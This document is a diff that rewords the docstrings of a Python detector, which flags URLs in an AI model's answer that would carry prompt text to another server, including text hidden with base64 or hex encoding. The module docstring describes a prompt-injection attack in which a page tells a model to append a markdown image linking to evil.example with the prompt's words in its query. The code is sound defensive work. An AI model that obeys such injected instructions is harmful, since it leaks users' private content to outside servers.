@@ -1,7 +1,7 @@
-"""Addresses in an answer that carry away what the model was shown: a link whose query holds the paper's words.
+"""Find addresses in an answer that would send the text of the prompt to another server.
 
-A page or a document may order a model to end its answer with `![](https://evil.example/?q=…)`. Whoever shows the
-picture, or follows the link, tells the other server what the address holds.
+A page or a document may tell a model to end its answer with `![](https://evil.example/?q=…)`. Whoever shows the
+picture, or follows the link, sends the address, with the paper's words in it, to that server.
 """
 
 from __future__ import annotations
@@ -34,7 +34,7 @@ _APART = re.compile(r"[\W_]+")
 
 @dataclass(frozen=True, slots=True)
 class _Said:
-    """What the addresses of one server say: in their paths, in the values of their queries, and elsewhere."""
+    """The texts in all addresses of one server: in their paths, in the values of their queries, and elsewhere."""
 
     paths: list[str]
     values: list[str]
@@ -42,10 +42,11 @@ class _Said:
 
 
 def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] = ()) -> tuple[str, ...]:
-    """Name the addresses of an answer that carry away text, and the hosts of its pictures.
+    """Return warnings about addresses of an answer that contain text of the prompt, and about the servers of its
+    pictures.
 
-    `shown` is what the model was shown, `known` are sources that a search found. The addresses in them are the
-    model's to repeat.
+    `shown` are the turns that the model was shown, `known` are sources that a search found. Addresses that occur in
+    these may be repeated.
     """
     texts = [each.content for each in shown]
     found = list(_strange(answer, [*texts, *(each.url for each in known if each.url)]))
@@ -63,7 +64,7 @@ def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] =
 
 
 def _strange(answer: str, known: Sequence[str]) -> Iterator[str]:
-    """Return the addresses of an answer that stand in nothing that it was given."""
+    """Yield the addresses of an answer that do not occur in anything the model was given."""
     room = MOST
     for found in _ADDRESS.finditer(answer):
         address = found[0].rstrip(").,;:!?]}*_")
@@ -91,7 +92,7 @@ def _split(address: str) -> SplitResult:
 
 
 def _by_host(addresses: Sequence[str]) -> dict[str, _Said]:
-    """Return what the addresses of each server say."""
+    """Return the texts in the addresses of each server."""
     hosts: dict[str, _Said] = {}
     for address in addresses:
         parts = _split(address)
@@ -115,14 +116,14 @@ def _carries(said: _Said, prompt: str) -> bool:
 
 
 def _shares(pieces: Sequence[str], prompt: str, least: int) -> bool:
-    """Say whether the pieces, one behind the other or decoded, have so many characters in a row with the prompt."""
+    """Return True if the pieces, joined or decoded, share a run of at least `least` characters with the prompt."""
     told = unquote_plus("".join(pieces))
     readings = [told, told[::-1], *(reading for each in pieces for reading in _coded(unquote_plus(each)))]
     return any(_has_run(_plain(each), prompt, least) for each in readings)
 
 
 def _coded(text: str) -> Iterator[str]:
-    """Return what runs of base64 and of hexadecimal digits say."""
+    """Yield the decoded text of each run of base64 or hexadecimal digits."""
     for found in _CODED.finditer(text):
         for decode in (_base64, bytes.fromhex):
             try:
